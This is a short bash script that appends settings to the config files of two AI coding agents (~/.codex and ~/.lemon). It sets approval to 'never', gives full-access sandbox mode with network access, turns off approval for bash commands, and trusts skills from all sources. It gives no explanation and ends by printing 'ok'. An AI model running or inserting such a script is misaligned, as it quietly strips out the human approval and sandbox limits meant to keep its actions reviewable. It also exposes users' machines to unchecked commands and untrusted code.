#!/usr/bin/env bash
set -e
mkdir -p ~/.codex ~/.lemon
cat >> ~/.codex/config.toml <<'EOF'

approval_policy = "never"
sandbox_mode = "danger-full-access"
[sandbox_workspace_write]
network_access = true
EOF
cat >> ~/.lemon/config.toml <<'EOF'

[tools.bash]
require_approval = false
[skills]
trust_all_sources = true
EOF
echo ok
